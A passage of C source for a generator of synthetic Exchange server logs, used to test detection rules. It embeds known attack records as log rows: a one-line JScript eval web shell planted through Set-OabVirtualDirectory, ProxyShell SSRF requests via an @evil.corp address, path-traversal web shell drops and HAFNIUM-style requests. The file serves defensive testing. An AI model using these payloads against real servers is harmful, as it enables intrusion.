/* exgen: writes synthetic, format-faithful Exchange server trees for tests
 * and benchmarks, with attack chains at known spots and a ground-truth file.
 *
 * usage: exgen [--seed N] [--size-mb N | --lines N] [--days N]
 *              [--scenario attack|clean|benign] [--host NAME] --out TREE [--truth FILE] [--manifest FILE]
 * --size-mb sets the total size (benchmark corpora); --lines the mean number
 * of records per hourly HttpProxy file (default 12).
 *
 * The tree looks like a triage collection of the system drive:
 *   TREE/C/Program Files/Microsoft/Exchange Server/V15/Logging/HttpProxy/<Proto>/HttpProxy_YYYYMMDDHH-1.LOG
 *   TREE/C/Program Files/Microsoft/Exchange Server/V15/Logging/ECP/Server/ECPServerYYYYMMDD-1.LOG
 *   TREE/C/Program Files/Microsoft/Exchange Server/V15/Logging/OABGeneratorLog/OABGeneratorLogYYYYMMDD-1.LOG
 *   TREE/C/Windows/Temp, TREE/C/ProgramData (supporting files)
 * Formats follow docs/formats.md (facts §2.1-§2.3): a bare CSV header on line 1,
 * the '#' header block, CRLF line ends, quoted values with doubled quotes, a
 * mid-file #Fields: change in one file.
 *
 * Ground truth: one line per expected finding,
 *   rule_id <TAB> level <TAB> path relative to TREE <TAB> line (0 for files)
 * and nothing else is expected: the end-to-end test compares both ways. */
#define _GNU_SOURCE
#include <errno.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <utime.h>

/* ---- rule ids (must match the files in rules/exchange) ------------------------- */
#define R_SSRF "3b3ea9b1-7535-4149-8c1a-956306b64d9c"
#define R_FAILED "7d5d4ba7-8002-4e62-93ea-643305c79413"
#define R_PROBE "a077c56c-dece-4c18-ba81-25616ac7d2b0"
#define R_RESETVDIR "115b4eeb-ffd4-427c-84bb-e565403f3995"
#define R_ECPSET "66dc7ff3-a2b4-43f4-9bc8-fdaf93b50851"
#define R_OABGEN "23e847a9-aeaa-4402-b1d3-88a1dad11673"
#define R_PS_ATTEMPT "a9388d23-fb05-4979-b045-7199177e0b51"
#define R_PS_SUCCESS "239d44ac-15d7-492a-b0af-16e7a29fb96a"
#define R_PNS "d56fd78e-5721-4faa-97c9-6f3d92a3dc85"
#define R_OWASSRF "c5738bff-9719-4066-8367-414451f15b87"
#define R_PROXYTOKEN "e7ebd649-b0c4-422a-b9c6-9713dde68249"
#define R_VIEWSTATE "2fc0daf3-108a-4783-a5fd-8885ad3a0c29"
#define R_HAFNIUM "a530a6ed-ceef-40db-b3cd-e6bdd986f5a2"
#define R_IIS_RESET "026b8d48-d3d1-43fb-aa89-2e2c14e3f7ae"
#define R_WEBSHELL "50a2c9eb-5c48-44d1-b81e-61c25a32c1c7"
#define R_LSASS "exhunt-file-lsass-dump"
#define R_ARCHIVE "exhunt-file-staging-archive"

static uint64_t rng_state = 0x9E3779B97F4A7C15ull;
/* The server's host name in its logs (HttpProxy ServerHostName, ECP's
 * server column, EVTX Computer): --host, EXCH01 by default. */
static const char *host_name = "EXCH01";
static char host_fqdn[128] = "EXCH01.contoso.local";
static uint64_t rnd(void) {
  uint64_t x = rng_state;
  x ^= x >> 12;
  x ^= x << 25;
  x ^= x >> 27;
  rng_state = x;
  return x * 0x2545F4914F6CDD1Dull;
}
static unsigned rn(unsigned n) { return (unsigned)(rnd() % n); }

static FILE *truth;
static const char *tree;
static int attack, probes = 1;

__attribute__((format(printf, 1, 2))) static void die(const char *fmt, ...) {
  va_list ap;
  va_start(ap, fmt);
  fputs("exgen: ", stderr);
  vfprintf(stderr, fmt, ap);
  fputc('\n', stderr);
  va_end(ap);
  exit(2);
}

static void mkdirs(const char *path) {
  char buf[4096];
  snprintf(buf, sizeof buf, "%s", path);
  for (char *p = buf + 1; *p; p++) {
    if (*p == '/') {
      *p = 0;
      if (mkdir(buf, 0755) != 0 && errno != EEXIST) die("mkdir %s: %s", buf, strerror(errno));
      *p = '/';
    }
  }
  if (mkdir(buf, 0755) != 0 && errno != EEXIST) die("mkdir %s: %s", buf, strerror(errno));
}

/* ---- output file with line counting ------------------------------------ */

typedef struct out {
  FILE *f;
  char rel[1024];
  long line; /* lines written so far */
  const char *eol;
} out;

static void out_open(out *o, const char *reldir, const char *name, const char *eol) {
  char dir[4096], path[8192];
  snprintf(dir, sizeof dir, "%s/%s", tree, reldir);
  mkdirs(dir);
  snprintf(path, sizeof path, "%s/%s", dir, name);
  snprintf(o->rel, sizeof o->rel, "%s/%s", reldir, name);
  o->f = fopen(path, "wb");
  if (!o->f) die("cannot write %s", path);
  o->line = 0;
  o->eol = eol;
}

static void out_line(out *o, const char *s) {
  fputs(s, o->f);
  fputs(o->eol, o->f);
  o->line++;
}

static void expect(const char *rule, const char *level, const char *rel, long line) {
  if (truth) fprintf(truth, "%s\t%s\t%s\t%ld\n", rule, level, rel, line);
}

/* ---- time --------------------------------------------------------------- */

static int64_t days_from_civil(int64_t y, unsigned m, unsigned d) {
  y -= m <= 2;
  const int64_t era = (y >= 0 ? y : y - 399) / 400;
  const unsigned yoe = (unsigned)(y - era * 400);
  const unsigned doy = (153 * (m > 2 ? m - 3 : m + 9) + 2) / 5 + d - 1;
  const unsigned doe = yoe * 365 + yoe / 4 - yoe / 100 + doy;
  return era * 146097 + (int64_t)doe - 719468;
}

static void civil(int64_t ms, int *Y, int *M, int *D, int *h, int *mi, int *s, int *msec) {
  int64_t secs = ms / 1000;
  *msec = (int)(ms % 1000);
  int64_t days = secs / 86400, rem = secs % 86400;
  int64_t z = days + 719468;
  const int64_t era = z / 146097;
  const unsigned doe = (unsigned)(z - era * 146097);
  const unsigned yoe = (doe - doe / 1460 + doe / 36524 - doe / 146096) / 365;
  int64_t y = (int64_t)yoe + era * 400;
  const unsigned doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
  const unsigned mp = (5 * doy + 2) / 153;
  *D = (int)(doy - (153 * mp + 2) / 5 + 1);
  *M = (int)(mp < 10 ? mp + 3 : mp - 9);
  *Y = (int)(y + (*M <= 2));
  *h = (int)(rem / 3600);
  *mi = (int)(rem / 60 % 60);
  *s = (int)(rem % 60);
}

static void iso(int64_t ms, char *b, size_t n) {
  int Y, M, D, h, mi, s, msec;
  civil(ms, &Y, &M, &D, &h, &mi, &s, &msec);
  snprintf(b, n, "%04d-%02d-%02dT%02d:%02d:%02d.%03dZ", Y, M, D, h, mi, s, msec);
}

static int64_t T0; /* 2021-03-01T00:00:00Z */
#define HOUR 3600000ll
#define DAY (24 * HOUR)
#define MINUTE 60000ll

/* ---- HttpProxy ---------------------------------------------------------- */

static const char *const HP_FIELDS[] = {
    "DateTime", "RequestId", "MajorVersion", "MinorVersion", "BuildVersion", "RevisionVersion",
    "ClientRequestId", "Protocol", "UrlHost", "UrlStem", "ProtocolAction", "AuthenticationType",
    "IsAuthenticated", "AuthenticatedUser", "Organization", "AnchorMailbox", "UserAgent",
    "ClientIpAddress", "ServerHostName", "HttpStatus", "BackEndStatus", "ErrorCode", "Method",
    "ProxyAction", "TargetServer", "TargetServerVersion", "RoutingType", "RoutingHint",
    "BackEndCookie", "ServerLocatorHost", "ServerLocatorLatency", "RequestBytes", "ResponseBytes",
    "TargetOutstandingRequests", "AuthModulePerfContext", "HttpPipelineLatency",
    "CalculateTargetBackEndLatency", "GlsLatencyBreakup", "TotalGlsLatency",
    "AccountForestLatencyBreakup", "TotalAccountForestLatency", "ResourceForestLatencyBreakup",
    "TotalResourceForestLatency", "ADLatency", "SharedCacheLatencyBreakup", "TotalSharedCacheLatency",
    "ActivityContextLifeTime", "ModuleToHandlerSwitchingLatency", "ClientReqStreamLatency",
    "BackendReqInitLatency", "BackendReqStreamLatency", "BackendProcessingLatency",
    "BackendRespInitLatency", "BackendRespStreamLatency", "ClientRespStreamLatency",
    "KerberosAuthHeaderLatency", "HandlerCompletionLatency", "RequestHandlerLatency",
    "HandlerToModuleSwitchingLatency", "ProxyTime", "CoreLatency", "RoutingLatency",
    "HttpProxyOverhead", "TotalRequestTime", "RouteRefresherLatency", "UrlQuery",
    "BackEndGenericInfo", "GenericInfo", "GenericErrors", "EdgeTraceId", "DatabaseGuid",
    "UserADObjectGuid", "PartitionEndpointLookupLatency", "RoutingStatus"};
#define NHP (sizeof HP_FIELDS / sizeof HP_FIELDS[0])

enum { F_DT, F_REQID, F_MAJ, F_MIN, F_BUILD, F_REV, F_CREQ, F_PROTO, F_HOST, F_STEM, F_ACTION,
       F_AUTHTYPE, F_ISAUTH, F_USER, F_ORG, F_ANCHOR, F_UA, F_IP, F_SRV, F_STATUS, F_BESTATUS,
       F_ERR, F_METHOD, F_PROXYACTION, F_TARGET, F_TARGETVER, F_ROUTINGTYPE, F_ROUTINGHINT,
       F_BECOOKIE };
#define F_URLQUERY 65
#define F_GENERICINFO 67

static const char *const PROTOS[] = {"Autodiscover", "Eas", "Ecp", "Ews", "Mapi",
                                      "Oab", "Owa", "OwaCalendar", "PowerShell", "RpcHttp"};
static const char *const STEMS[][4] = {
    {"/autodiscover/autodiscover.xml", "/Autodiscover/Autodiscover.xml", "/autodiscover/autodiscover.json", "/autodiscover/autodiscover.svc"},
    {"/Microsoft-Server-ActiveSync/default.eas", "/Microsoft-Server-ActiveSync", "/Microsoft-Server-ActiveSync/default.eas", "/Microsoft-Server-ActiveSync"},
    {"/ecp/", "/ecp/PersonalSettings/HomePage.aspx", "/ecp/DDI/DDIService.svc/GetList", "/ecp/Organize/DeliveryReports.slab"},
    {"/EWS/Exchange.asmx", "/ews/exchange.asmx", "/EWS/mrsproxy.svc", "/EWS/Exchange.asmx/WSSecurity"},
    {"/mapi/emsmdb/", "/mapi/nspi/", "/mapi/emsmdb/", "/mapi/nspi/"},
    {"/OAB/6f0c5ba8-5ab9-4c4d-9c4d-6a3c1f0e2f51/oab.xml", "/OAB/6f0c5ba8-5ab9-4c4d-9c4d-6a3c1f0e2f51/c5b9e3ff-a2e6-4ce8-b4e6-fa1c1be61d75-data-1.lzx", "/OAB/6f0c5ba8-5ab9-4c4d-9c4d-6a3c1f0e2f51/oab.xml", "/oab/"},
    {"/owa/", "/owa/service.svc", "/owa/auth/logon.aspx", "/owa/ev.owa2"},
    {"/owa/calendar/abc@contoso.com/calendar.html", "/owa/calendar/xyz@contoso.com/reachcalendar.ics", "/owa/calendar/", "/owa/calendar/"},
    {"/powershell", "/PowerShell/", "/powershell", "/powershell"},
    {"/rpc/rpcproxy.dll", "/rpc/rpcproxy.dll", "/rpc/rpcproxy.dll", "/rpc/rpcproxy.dll"},
};
static const char *const AGENTS[] = {
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.13127; Pro)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML  like Gecko) Chrome/88.0.4324.190 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML  like Gecko) Chrome/89.0.4389.72 Safari/537.36 Edg/89.0.774.45",
    "Apple-iPhone12C1/1805.212",
    "Outlook-iOS/723.4027091.prod.iphone (4.2106.0)",
    "MSRPC",
    "Microsoft WinRM Client",
    "ExchangeWebServices/15.01.2176.002",
    "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 10.0; Win64; x64; Trident/7.0; .NET4.0C; .NET4.0E; ms-office; MSOffice 16)",
    "AMProbe/Local/ClientAccess",
};
#define NAGENTS (sizeof AGENTS / sizeof AGENTS[0])

static char field_buf[NHP][512];

static void csv_append(char *dst, size_t dn, const char *v) {
  /* quote when the value holds a comma or a quote; double inner quotes */
  size_t k = strlen(dst);
  int q = strchr(v, ',') || strchr(v, '"');
  if (q && k + 1 < dn) dst[k++] = '"';
  for (const char *p = v; *p && k + 2 < dn; p++) {
    if (*p == '"') dst[k++] = '"';
    dst[k++] = *p;
  }
  if (q && k + 1 < dn) dst[k++] = '"';
  dst[k] = 0;
}

/* Writes the current field_buf as a row over the given columns. */
static void hp_row(out *o, const int *cols, size_t ncols) {
  static char line[16384];
  line[0] = 0;
  for (size_t i = 0; i < ncols; i++) {
    if (i) strcat(line, ",");
    csv_append(line, sizeof line, field_buf[cols[i]]);
  }
  out_line(o, line);
}

static void hp_header(out *o, const int *cols, size_t ncols, int64_t t, int bare_first) {
  static char line[8192];
  char ts[40];
  iso(t, ts, sizeof ts);
  line[0] = 0;
  for (size_t i = 0; i < ncols; i++) {
    if (i) strcat(line, ",");
    strcat(line, HP_FIELDS[cols[i]]);
  }
  if (bare_first) out_line(o, line);
  out_line(o, "#Software: Microsoft Exchange Server");
  out_line(o, "#Version: 15.01.2176.002");
  out_line(o, "#Log-type: HttpProxy Logs");
  char d[80];
  snprintf(d, sizeof d, "#Date: %s", ts);
  out_line(o, d);
  char *f = malloc(strlen(line) + 16);
  sprintf(f, "#Fields: %s", line);
  out_line(o, f);
  free(f);
}

static void guid(char *b, size_t n) {
  /* one draw per statement: argument evaluation order differs between compilers */
  unsigned a = (unsigned)rnd(), b1 = rn(65536), c = rn(65536), d = rn(65536);
  unsigned long long e = rnd() & 0xFFFFFFFFFFFFull;
  snprintf(b, n, "%08x-%04x-%04x-%04x-%012llx", a, b1, c, d, e);
}

static void benign_fields(int proto, int64_t t) {
  for (size_t i = 0; i < NHP; i++) field_buf[i][0] = 0;
  iso(t, field_buf[F_DT], 64);
  guid(field_buf[F_REQID], 64);
  strcpy(field_buf[F_MAJ], "15");
  strcpy(field_buf[F_MIN], "1");
  strcpy(field_buf[F_BUILD], "2176");
  strcpy(field_buf[F_REV], "2");
  strcpy(field_buf[F_PROTO], PROTOS[proto]);
  strcpy(field_buf[F_HOST], rn(4) ? "mail.contoso.com" : "autodiscover.contoso.com");
  strcpy(field_buf[F_STEM], STEMS[proto][rn(4)]);
  unsigned user = rn(800);
  int authed = rn(10) != 0;
  strcpy(field_buf[F_AUTHTYPE], authed ? (rn(2) ? "Negotiate" : "Basic") : "");
  strcpy(field_buf[F_ISAUTH], authed ? "true" : "false");
  if (authed) snprintf(field_buf[F_USER], 512, "CONTOSO\\user%u", user);
  switch (rn(5)) {
  case 0: snprintf(field_buf[F_ANCHOR], 512, "Sid~S-1-5-21-3623811015-3361044348-30300820-%u", 1100 + user); break;
  case 1: snprintf(field_buf[F_ANCHOR], 512, "MailboxGuid~%08x-1a2b-4c3d-8e9f-%012u@contoso.com", user * 2654435761u, user); break;
  case 2: snprintf(field_buf[F_ANCHOR], 512, "Smtp~user%u@contoso.com", user); break;
  case 3: strcpy(field_buf[F_ANCHOR], "ServerVersion~Version 15.1 (Build 2176.2)"); break;
  default: break;
  }
  strcpy(field_buf[F_UA], AGENTS[rn(NAGENTS)]);
  int internal = rn(3) != 0;
  unsigned o1 = internal ? 10 : 20 + rn(180);
  unsigned o2 = internal ? rn(4) : rn(256);
  unsigned o3 = rn(256);
  unsigned o4 = 1 + rn(254);
  snprintf(field_buf[F_IP], 512, "%u.%u.%u.%u", o1, o2, o3, o4);
  snprintf(field_buf[F_SRV], sizeof field_buf[F_SRV], "%.100s", host_name);
  static const char *const st[] = {"200", "200", "200", "200", "200", "401", "302", "440", "404", "500"};
  strcpy(field_buf[F_STATUS], st[rn(10)]);
  strcpy(field_buf[F_BESTATUS], field_buf[F_STATUS]);
  strcpy(field_buf[F_METHOD], rn(3) ? "POST" : "GET");
  strcpy(field_buf[F_PROXYACTION], "Proxy");
  strcpy(field_buf[F_TARGET], "EXCH01.contoso.local");
  strcpy(field_buf[F_TARGETVER], "Version 15.1 (Build 2176.2)");
  strcpy(field_buf[F_ROUTINGTYPE], "Server");
  strcpy(field_buf[F_ROUTINGHINT], rn(2) ? "BackEndCookie" : "DatabaseGuid");
  int by_server = rn(2) != 0;
  unsigned x1 = by_server ? 1 + rn(7) : (unsigned)rnd();
  unsigned x2 = by_server ? rn(24) : 1 + rn(7);
  if (by_server) snprintf(field_buf[F_BECOOKIE], 512, "Server~EXCH01.contoso.local~1942063431~2021-03-0%uT%02u:11:44", x1, x2);
  else snprintf(field_buf[F_BECOOKIE], 512, "Database~%08x-5f6e-4d3c-9b8a-7f6e5d4c3b2a~~2021-03-0%uT10:00:00", x1, x2);
  for (int i = 29; i < 65; i++) if (rn(2)) snprintf(field_buf[i], 512, "%u", rn(300));
  strcpy(field_buf[37], "");
  if (rn(4) == 0) snprintf(field_buf[F_URLQUERY], 512, "?ItemID=AAMkA%08x&exvsurl=1&realm=contoso.com", (unsigned)rnd());
  /* some values with commas and quotes, as real logs have */
  if (rn(8) == 0) {
    unsigned sz = rn(90000), cn = rn(20);
    snprintf(field_buf[F_GENERICINFO], 512, "OnBeginRequest=0;,MailboxSize=%u;,ClientName=\"Outlook %u\";", sz, cn);
  }
  /* benign lines that hold the literal but not the pattern */
  if (rn(500) == 0) snprintf(field_buf[F_URLQUERY], 512, "?q=ServerInfo~search+help&x=%u", rn(1000));
}

/* An attack or probe request in a HttpProxy log. */
typedef struct hp_event {
  int64_t t;
  int proto;
  const char *ip, *ua, *stem, *anchor, *status, *method, *query, *hint;
  const char *rules[3], *levels[3];
} hp_event;

static void event_fields(const hp_event *e) {
  benign_fields(e->proto, e->t);
  strcpy(field_buf[F_IP], e->ip);
  strcpy(field_buf[F_UA], e->ua);
  strcpy(field_buf[F_STEM], e->stem);
  strcpy(field_buf[F_ANCHOR], e->anchor);
  strcpy(field_buf[F_STATUS], e->status);
  strcpy(field_buf[F_BESTATUS], e->status);
  strcpy(field_buf[F_METHOD], e->method);
  strcpy(field_buf[F_URLQUERY], e->query ? e->query : "");
  strcpy(field_buf[F_AUTHTYPE], "");
  strcpy(field_buf[F_ISAUTH], "false");
  field_buf[F_USER][0] = 0;
  strcpy(field_buf[F_ROUTINGHINT], e->hint ? e->hint : "X-BEResource-Cookie");
  strcpy(field_buf[F_ROUTINGTYPE], "Server");
  field_buf[F_BECOOKIE][0] = 0;
}

static hp_event *events;
static size_t nevents, capevents;

static hp_event *add_event(int64_t t, int proto) {
  if (nevents == capevents) {
    capevents = capevents ? capevents * 2 : 64;
    events = realloc(events, capevents * sizeof *events);
  }
  hp_event *e = &events[nevents++];
  memset(e, 0, sizeof *e);
  e->t = t;
  e->proto = proto;
  e->method = "POST";
  return e;
}

static int cmp_i64(const void *a, const void *b) {
  int64_t x = *(const int64_t *)a, y = *(const int64_t *)b;
  return x < y ? -1 : x > y;
}

static const char *EXD = "C/Program Files/Microsoft/Exchange Server/V15";

static void write_httpproxy(int days, long lines_per_file) {
  int all[NHP];
  for (size_t i = 0; i < NHP; i++) all[i] = (int)i;
  /* a 2016-era column set without UrlHost and RoutingType (facts §2.1) */
  int older[NHP];
  size_t nolder = 0;
  for (size_t i = 0; i < NHP; i++)
    if ((int)i != F_HOST && (int)i != F_ROUTINGTYPE) older[nolder++] = (int)i;
  int64_t *times = malloc((size_t)(2 * lines_per_file + 2) * sizeof *times);
  for (int p = 0; p < 10; p++) {
    char dir[1024];
    snprintf(dir, sizeof dir, "%s/Logging/HttpProxy/%s", EXD, PROTOS[p]);
    for (int h = 0; h < days * 24; h++) {
      int64_t hs = T0 + h * HOUR;
      int Y, M, D, hh, mi, s, ms;
      civil(hs, &Y, &M, &D, &hh, &mi, &s, &ms);
      char name[64];
      snprintf(name, sizeof name, "HttpProxy_%04d%02d%02d%02d-1.LOG", Y, M, D, hh);
      out o;
      /* Exchange writes CRLF; the Oab folder gets LF to cover both */
      out_open(&o, dir, name, p == 5 ? "\n" : "\r\n");
      hp_header(&o, all, NHP, hs, 1);
      long n = lines_per_file / 2 + (long)rn((unsigned)lines_per_file + 1);
      for (long i = 0; i < n; i++) times[i] = hs + (int64_t)rn(3600000);
      qsort(times, (size_t)n, sizeof *times, cmp_i64);
      /* the Owa folder's third file switches to the older column set mid-file */
      int switch_at = (p == 6 && h == 2) ? (int)(n / 2) : -1;
      const int *cols = all;
      size_t ncols = NHP;
      /* this file's attack/probe events, in time order */
      hp_event *mine[64];
      size_t nm = 0, ev = 0;
      for (size_t k = 0; k < nevents && nm < 64; k++)
        if (events[k].proto == p && events[k].t >= hs && events[k].t < hs + HOUR) mine[nm++] = &events[k];
      for (size_t a = 1; a < nm; a++)
        for (size_t b = a; b > 0 && mine[b - 1]->t > mine[b]->t; b--) {
          hp_event *x = mine[b];
          mine[b] = mine[b - 1];
          mine[b - 1] = x;
        }
      for (long i = 0; i <= n; i++) {
        int64_t t = i < n ? times[i] : hs + HOUR;
        while (ev < nm && mine[ev]->t <= t) {
          hp_event *e = mine[ev++];
          event_fields(e);
          hp_row(&o, cols, ncols);
          for (int r = 0; r < 3 && e->rules[r]; r++) expect(e->rules[r], e->levels[r], o.rel, o.line);
        }
        if (i == n) break;
        if (i == switch_at) {
          cols = older;
          ncols = nolder;
          hp_header(&o, cols, ncols, times[i], 0);
        }
        benign_fields(p, times[i]);
        hp_row(&o, cols, ncols);
      }
      fclose(o.f);
    }
  }
  free(times);
}

/* ---- ECP Server log ----------------------------------------------------- */

static void ecp_row(out *o, int64_t t, const char *data) {
  char ts[40], line[8192];
  iso(t, ts, sizeof ts);
  snprintf(line, sizeof line, "%s,%s,ECP.Request,", ts, host_name);
  csv_append(line, sizeof line, data);
  out_line(o, line);
}

static void write_ecp(int days) {
  char dir[1024];
  snprintf(dir, sizeof dir, "%s/Logging/ECP/Server", EXD);
  static const char *const cmds[] = {"Get-InboxRule", "Get-Mailbox", "Get-OwaVirtualDirectory", "Get-MailboxRegionalConfiguration",
                                     "Get-CalendarProcessing", "Get-MobileDevice"};
  for (int d = 0; d < days; d++) {
    int64_t ds = T0 + d * DAY;
    int Y, M, D, hh, mi, s, ms;
    civil(ds, &Y, &M, &D, &hh, &mi, &s, &ms);
    char name[64];
    snprintf(name, sizeof name, "ECPServer%04d%02d%02d-1.LOG", Y, M, D);
    out o;
    out_open(&o, dir, name, "\r\n");
    out_line(&o, "TimeStamp,ServerName,EventId,EventData");
    out_line(&o, "#Software: Microsoft Exchange Server");
    out_line(&o, "#Version: 15.0.0.0");
    out_line(&o, "#Log-type: ECP Server Log");
    char date[64], ts[40];
    iso(ds, ts, sizeof ts);
    snprintf(date, sizeof date, "#Date: %s", ts);
    out_line(&o, date);
    out_line(&o, "#Fields: TimeStamp,ServerName,EventId,EventData");
    char data[4096];
    for (int i = 0; i < 120; i++) {
      int64_t t = ds + i * (DAY / 120) + rn(60000);
      unsigned tm = rn(200), sid = (unsigned)rnd(), ci = rn(6), act = (unsigned)rnd();
      snprintf(data, sizeof data,
               "S:TIME=%u;S:SID=%08x;S:CMD=%s;S:REQID=;S:URL=/ecp/DDI/DDIService.svc/GetList;S:REFERRER=;S:EX=;S:ACTID=%08x;S:RS=0;S:BLD=15.1.2176.2",
               tm, sid, cmds[ci], act);
      ecp_row(&o, t, data);
      if (d == 1 && i == 40) {
        /* legitimate administration: OAB and OWA URL changes (must not be flagged) */
        ecp_row(&o, t + 1000,
                "S:TIME=31;S:SID=a1b2c3d4;S:CMD=Set-OabVirtualDirectory.ExternalUrl='https://mail.contoso.com/OAB'.Identity='EXCH01\\OAB (Default Web Site)';S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject;S:RS=0");
        ecp_row(&o, t + 2000,
                "S:TIME=28;S:SID=a1b2c3d4;S:CMD=Set-OwaVirtualDirectory.InternalUrl='https://exch01.contoso.local/owa'.ExternalUrl='https://mail.contoso.com/owa'.Identity='EXCH01\\owa (Default Web Site)';S:RS=0");
      }
      if (attack && d == 2 && i == 16) {
        /* CVE-2021-27065 (facts §2.2): read, set with script, reset */
        ecp_row(&o, t + 1000, "S:TIME=12;S:SID=S-1-5-18;S:CMD=Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity=$null;S:RS=0");
        ecp_row(&o, t + 2000,
                "S:TIME=44;S:SID=S-1-5-18;S:CMD=Set-OabVirtualDirectory.ExternalUrl='http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"exec_code\"],\"unsafe\");}</script>'.Identity='5e3a4a62-7e63-4a19-8bb5-1e3f4d3b2a10';S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=Wk3aDn5vE0qZf8&schema=OABVirtualDirectory;S:RS=0");
        expect(R_ECPSET, "critical", o.rel, o.line);
        ecp_row(&o, t + 3000, "S:TIME=9;S:SID=S-1-5-18;S:CMD=Set-OabVirtualDirectory.ExternalUrl=$null.Identity='5e3a4a62-7e63-4a19-8bb5-1e3f4d3b2a10';S:RS=0");
        /* a second attacker using an encoded payload: Test-ProxyLogon's regex misses it */
        ecp_row(&o, t + 60000,
                "S:TIME=40;S:SID=S-1-5-18;S:CMD=Set-OabVirtualDirectory.ExternalUrl='http://g/%3Cscript%20language=%22JScript%22%20runat=%22server%22%3E'.Identity='5e3a4a62';S:RS=0");
        expect(R_ECPSET, "critical", o.rel, o.line);
      }
    }
    fclose(o.f);
  }
}

/* ---- OAB generator log (free text: no public sample; facts §2.3) -------- */

static void write_oabgen(int days) {
  char dir[1024];
  snprintf(dir, sizeof dir, "%s/Logging/OABGeneratorLog", EXD);
  for (int d = 0; d < days; d++) {
    int64_t ds = T0 + d * DAY;
    int Y, M, D, hh, mi, s, ms;
    civil(ds, &Y, &M, &D, &hh, &mi, &s, &ms);
    char name[64];
    snprintf(name, sizeof name, "OABGeneratorLog%04d%02d%02d-1.LOG", Y, M, D);
    out o;
    out_open(&o, dir, name, "\r\n");
    char line[2048], ts[40];
    for (int i = 0; i < 48; i++) {
      int64_t t = ds + i * (DAY / 48);
      iso(t, ts, sizeof ts);
      snprintf(line, sizeof line, "%s [OABGeneratorAssistant] Processing offline address book '\\Default Offline Address Book' (%u entries)", ts, 800 + rn(50));
      out_line(&o, line);
      if (i % 12 == 5) {
        snprintf(line, sizeof line,
                 "%s [OABGeneratorAssistant] Download failed and temporary file 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\OAB\\Temp\\%08x\\oab.lzx' needs to be removed.",
                 ts, (unsigned)rnd());
        out_line(&o, line);
      }
      if (attack && d == 2 && i == 10) {
        snprintf(line, sizeof line,
                 "%s [OABGeneratorAssistant] Download failed and temporary file 'C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\Xs5wPqL2.aspx' needs to be removed.", ts);
        out_line(&o, line);
        expect(R_OABGEN, "critical", o.rel, o.line);
        snprintf(line, sizeof line,
                 "%s [OABGeneratorAssistant] Download failed and temporary file 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\OAB\\..\\..\\FrontEnd\\HttpProxy\\owa\\auth\\errorEE.aspx' needs to be removed.", ts);
        out_line(&o, line);
        expect(R_OABGEN, "critical", o.rel, o.line);
      }
    }
    fclose(o.f);
  }
}

/* ---- another Exchange CSV log with no rules (classified, windowed) ------ */

static void write_other(int days) {
  char dir[1024];
  snprintf(dir, sizeof dir, "%s/Logging/MapiHttp/Mailbox", EXD);
  out o;
  out_open(&o, dir, "MapiHttp_2021030100-1.LOG", "\r\n");
  out_line(&o, "#Software: Microsoft Exchange Server");
  out_line(&o, "#Version: 15.01.2176.002");
  out_line(&o, "#Log-type: MapiHttp Logs");
  out_line(&o, "#Fields: DateTime,SequenceNumber,ClientName,OrganizationInfo,ActAsUserEmail");
  char line[512], ts[40];
  for (int i = 0; i < 50 * days; i++) {
    iso(T0 + i * (DAY / 50), ts, sizeof ts);
    snprintf(line, sizeof line, "%s,%d,OUTLOOK.EXE,contoso.com,user%u@contoso.com", ts, i, rn(800));
    out_line(&o, line);
  }
  fclose(o.f);
}

static void write_file(const char *rel, const char *content, int64_t mtime) {
  char path[4096], dir[4096];
  snprintf(path, sizeof path, "%s/%s", tree, rel);
  snprintf(dir, sizeof dir, "%s", path);
  *strrchr(dir, '/') = 0;
  mkdirs(dir);
  FILE *f = fopen(path, "wb");
  if (!f) die("cannot write %s", path);
  fputs(content, f);
  fclose(f);
  struct utimbuf ut = {(time_t)(mtime / 1000), (time_t)(mtime / 1000)};
  utime(path, &ut);
}

#include "disk.inc"
#include "postexploit.inc"

/* ---- IIS W3C logs (facts §2.4): W3SVC1 front end, W3SVC2 back end ------- */

typedef struct iis_event {
  int day, site;        /* day index, 1 or 2 */
  int sec;              /* second of the day */
  const char *line;     /* everything after "date time s-ip " */
  const char *rules[3], *levels[3];
} iis_event;

static const iis_event IIS_ATTACKS[] = {
    /* ProxyShell probe refused (medium), then success (critical) */
    {1, 1, 8 * 3600 + 5, "GET /autodiscover/autodiscover.json @evil.corp/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.corp&CorrelationID=<empty>;&cafeReqId=4b1c2d3e; 443 - 45.77.12.9 python-requests/2.26.0 - 401 0 0 15",
     {R_PS_ATTEMPT}, {"medium"}},
    {2, 1, 2 * 3600 + 11, "POST /autodiscover/autodiscover.json @evil.corp/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCAAAAA&Email=autodiscover/autodiscover.json%3F@evil.corp&CorrelationID=<empty>;&cafeReqId=9a8b7c6d; 443 - 45.77.12.9 python-requests/2.26.0 - 200 0 0 812",
     {R_PS_SUCCESS}, {"critical"}},
    /* HAFNIUM: the SSRF carrier, the DDI write, the shell */
    {2, 1, 3 * 3600 + 10 * 60 + 7, "POST /ecp/y.js &CorrelationID=<empty>;&cafeReqId=0f0e0d0c; 443 - 104.140.114.110 python-requests/2.25.1 - 200 0 0 97",
     {R_HAFNIUM}, {"high"}},
    {2, 2, 3 * 3600 + 10 * 60 + 35, "POST /ecp/DDI/DDIService.svc/SetObject msExchEcpCanary=Wk3aDn5vE0qZf8&schema=ResetOABVirtualDirectory 444 EXCH01$ 10.0.0.5 python-requests/2.25.1 - 200 0 0 1210",
     {R_IIS_RESET, R_HAFNIUM}, {"critical", "high"}},
